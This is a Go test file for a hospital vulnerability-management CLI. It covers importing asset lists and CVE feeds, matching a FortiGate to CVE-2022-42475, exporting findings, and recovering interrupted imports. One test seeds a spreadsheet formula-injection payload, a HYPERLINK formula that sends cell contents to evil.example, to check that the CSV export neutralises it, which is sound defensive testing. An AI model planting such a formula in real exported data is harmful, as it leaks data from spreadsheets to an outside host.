package app

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"io"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/medisac/medisac/internal/auth"
	"github.com/medisac/medisac/internal/db"
	"github.com/medisac/medisac/internal/db/dbtest"
	"github.com/medisac/medisac/internal/inventory"
	"github.com/medisac/medisac/internal/testkit"
	"github.com/medisac/medisac/internal/testkit/seed"
	"github.com/medisac/medisac/internal/vuln"
)

func TestVulnCommands(t *testing.T) {
	dir, org := cliHospital(t, "脆弱性病院")
	assets := testkit.WriteFile(t, dir, "assets.csv", []byte("名称,種別,メーカー,製品名,バージョン\n玄関FW,ネットワーク機器,Fortinet,FortiGate,7.2.2\n"))
	if out, err := runCLI(t, dir, "inventory", "import", "--org", org, assets); err != nil {
		t.Fatalf("inventory import: %v %s", err, out)
	}
	td := filepath.Join("..", "vuln", "testdata")
	out, err := runCLI(t, dir, "vuln", "import", filepath.Join(td, "nvd", "CVE-2022-42475.json"), filepath.Join(td, "kev"), filepath.Join(td, "fortinet", "FG-IR-22-398.json"))
	if err != nil {
		t.Fatalf("vuln import: %v %s", err, out)
	}
	testkit.ContainsAll(t, "import output", out, "CVE-2022-42475.json: nvd, 1 records", "kev_trimmed.json: kev, 20 records", "FG-IR-22-398.json: fortinet")
	bad := testkit.WriteFile(t, dir, "bad.json", []byte(`{"resultsPerPage":1,"startIndex":0,"totalResults":1,"format":"NVD_CVE","version":"2.0","vulnerabilities":[{"cve":{"id":"CVE-1"}}]}`))
	out, err = runCLI(t, dir, "vuln", "import", bad)
	if err == nil || !strings.Contains(out, "bad.json: rejected:") || !strings.Contains(out, "登録済みのデータはそのまま") {
		t.Errorf("bad file: %v %s", err, out)
	}
	out, err = runCLI(t, dir, "vuln", "match")
	if err != nil || !strings.Contains(out, "matched") {
		t.Errorf("match: %v %s", err, out)
	}
	out, err = runCLI(t, dir, "vuln", "findings", "--org", org, "--format", "json")
	if err != nil {
		t.Fatalf("findings json: %v %s", err, out)
	}
	var fs []vuln.Finding
	if err := json.Unmarshal([]byte(out), &fs); err != nil {
		t.Fatalf("findings json: %v %s", err, out)
	}
	found := false
	for _, f := range fs {
		if f.AssetName == "玄関FW" && f.VulnID == "CVE-2022-42475" && f.Confidence == "exact" && f.Priority > 0 && f.State == vuln.StateOpen {
			found = true
		}
	}
	if !found {
		t.Errorf("no finding for the FortiGate: %s", out)
	}
	out, err = runCLI(t, dir, "vuln", "findings", "--org", org, "--format", "csv")
	if err != nil {
		t.Fatalf("findings csv: %v %s", err, out)
	}
	rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil || len(rows) < 2 || strings.Join(rows[0][:6], ",") != "asset_name,asset_id,vulnerability,confidence,priority,state" {
		t.Errorf("csv: %v %q", err, out)
	}
	if _, err := runCLI(t, dir, "vuln", "sync"); err == nil || ExitCode(err) != 2 {
		t.Errorf("sync without configuration: %v", err)
	}
}

// TestVulnFindingsExportAll exports an organisation with more findings
// than one page on both databases: every finding once, in list order, in
// JSON and CSV, with and without --all.
func TestVulnFindingsExportAll(t *testing.T) {
	dbtest.EachURL(t, func(t *testing.T, target string, d *db.DB) {
		ctx := context.Background()
		dir := t.TempDir()
		now := testkit.Start
		org := seed.Org(t, d, auth.OrgInput{Kind: auth.KindHospital, Name: "書き出し病院", Prefecture: "東京都"}, now)
		assets := seed.Devices(t, d, org.ID, "機器%d", inventory.KindNetwork, 3, now)
		const n = 1600
		seed.Findings(t, d, org.ID, assets, n, now, func(i int) seed.Finding {
			return seed.Finding{Active: i%5 != 0, Priority: 1 + i%4, Rank: i % 2}
		})
		t.Setenv("MEDISAC_DATA_DIR", dir)
		t.Setenv("MEDISAC_DATABASE_URL", target)
		for _, all := range []bool{false, true} {
			want, err := vuln.ListFindings(ctx, d, org.ID, vuln.FindingFilter{All: all})
			if err != nil {
				t.Fatal(err)
			}
			if len(want) <= 1000 {
				t.Fatalf("only %d findings seeded", len(want))
			}
			args := []string{"vuln", "findings", "--org", org.ID}
			if all {
				args = append(args, "--all")
			}
			var out, errb bytes.Buffer
			if err := Run(ctx, append(args, "--format", "json"), &out, &errb); err != nil {
				t.Fatalf("json: %v %s", err, errb.String())
			}
			var got []vuln.Finding
			if err := json.Unmarshal(out.Bytes(), &got); err != nil {
				t.Fatalf("json: %v", err)
			}
			if len(got) != len(want) {
				t.Fatalf("all=%v: json has %d findings, want %d", all, len(got), len(want))
			}
			for i := range want {
				if got[i].ID != want[i].ID || got[i].AssetName == "" || got[i].VulnID != want[i].VulnID {
					t.Fatalf("all=%v: json row %d is %s, want %s", all, i, got[i].ID, want[i].ID)
				}
			}
			out.Reset()
			if err := Run(ctx, append(args, "--format", "csv"), &out, &errb); err != nil {
				t.Fatalf("csv: %v %s", err, errb.String())
			}
			rows, err := csv.NewReader(&out).ReadAll()
			if err != nil || len(rows) != len(want)+1 {
				t.Fatalf("all=%v: csv has %d rows, want %d: %v", all, len(rows), len(want)+1, err)
			}
			for i, f := range want {
				if r := rows[i+1]; r[len(r)-1] != f.ID || r[2] != f.VulnID {
					t.Fatalf("all=%v: csv row %d is %v, want %s", all, i+1, r, f.ID)
				}
			}
		}
		var out, errb bytes.Buffer
		if err := Run(ctx, []string{"vuln", "findings", "--org", db.NewID(), "--format", "json"}, &out, &errb); err != nil || strings.TrimSpace(out.String()) != "[]" {
			t.Errorf("unknown organisation: %v %q", err, out.String())
		}
	})
}

// TestVulnFindingsCSVFormula: an asset name that a spreadsheet would run
// as a formula is written into the findings CSV with a leading apostrophe.
func TestVulnFindingsCSVFormula(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, d *db.DB) {
		ctx := context.Background()
		now := testkit.Start
		org := seed.Org(t, d, auth.OrgInput{Kind: auth.KindHospital, Name: "書き出し病院", Prefecture: "東京都"}, now)
		name := `=HYPERLINK("http://evil.example/?"&A1,"詳細")`
		a, err := inventory.CreateAsset(ctx, d, org.ID, "", inventory.Asset{Name: name, Kind: inventory.KindNetwork}, now)
		if err != nil {
			t.Fatal(err)
		}
		seed.Findings(t, d, org.ID, []string{a.ID}, 1, now, func(int) seed.Finding { return seed.Finding{Active: true, Priority: 1, Rank: 1} })
		var out bytes.Buffer
		if err := streamFindings(ctx, d, org.ID, vuln.FindingFilter{}, "csv", &out); err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(&out).ReadAll()
		if err != nil || len(rows) != 2 {
			t.Fatalf("csv %v %q", err, out.String())
		}
		if rows[1][0] != "'"+name {
			t.Errorf("asset name cell %q", rows[1][0])
		}
	})
}

// TestVulnImportShowsInterrupted: an import whose process died (running,
// heartbeat long past) is marked by the next `medisac vuln import`, which
// lists it with what to do until the same file is imported completely.
func TestVulnImportShowsInterrupted(t *testing.T) {
	dir := t.TempDir()
	if out, err := runCLI(t, dir, "migrate"); err != nil {
		t.Fatalf("migrate: %v %s", err, out)
	}
	ctx := context.Background()
	d, err := db.Open(ctx, filepath.Join(dir, "medisac.db"))
	if err != nil {
		t.Fatal(err)
	}
	defer d.Close()
	long := time.Now().Add(-time.Hour)
	if _, err := d.Exec(ctx, `INSERT INTO vuln_imports (id, at, name, format, records, ok, state, heartbeat, matched) VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?)`,
		db.NewID(), long, "kev_trimmed.json", "kev", 20, false, vuln.ImportRunning, long, false); err != nil {
		t.Fatal(err)
	}
	kev := filepath.Join("..", "vuln", "testdata", "kev", "kev_trimmed.json")
	epss := filepath.Join("..", "vuln", "testdata", "epss", "epss_scores-2023-03-07.csv.gz")
	out, err := runCLI(t, dir, "vuln", "import", epss)
	if err != nil || !strings.Contains(out, "kev_trimmed.json") || !strings.Contains(out, "取り込みが途中で止まりました（kev_trimmed.json）。同じファイルをもう一度取り込むと完了します。") {
		t.Fatalf("import after a killed one: %v\n%s", err, out)
	}
	var matched bool
	var state string
	if err := d.QueryRow(ctx, `SELECT state, matched FROM vuln_imports WHERE name = ?`, "kev_trimmed.json").Scan(&state, &matched); err != nil || state != vuln.ImportInterrupted || !matched {
		t.Fatalf("killed import: %q matched=%v %v", state, matched, err)
	}
	if out, err := runCLI(t, dir, "vuln", "import", kev); err != nil || !strings.Contains(out, "kev_trimmed.json: kev, 20 records") {
		t.Fatalf("import again: %v\n%s", err, out)
	}
	if out, err := runCLI(t, dir, "vuln", "import", epss); err != nil || strings.Contains(out, "途中で止まりました") {
		t.Fatalf("after completing: %v\n%s", err, out)
	}
}

func BenchmarkStreamFindings(b *testing.B) {
	ctx := context.Background()
	d := dbtest.SQLite(b)
	now := testkit.Start
	org := seed.Org(b, d, auth.OrgInput{Kind: auth.KindHospital, Name: "大病院", Prefecture: "東京都"}, now)
	assets := seed.Devices(b, d, org.ID, "機器%d", inventory.KindNetwork, 1, now)
	seed.Findings(b, d, org.ID, assets, 20000, now, func(i int) seed.Finding {
		return seed.Finding{Active: true, Priority: 1 + i%4, Rank: i % 100}
	})
	for b.Loop() {
		if err := streamFindings(ctx, d, org.ID, vuln.FindingFilter{}, "csv", io.Discard); err != nil {
			b.Fatal(err)
		}
	}
}
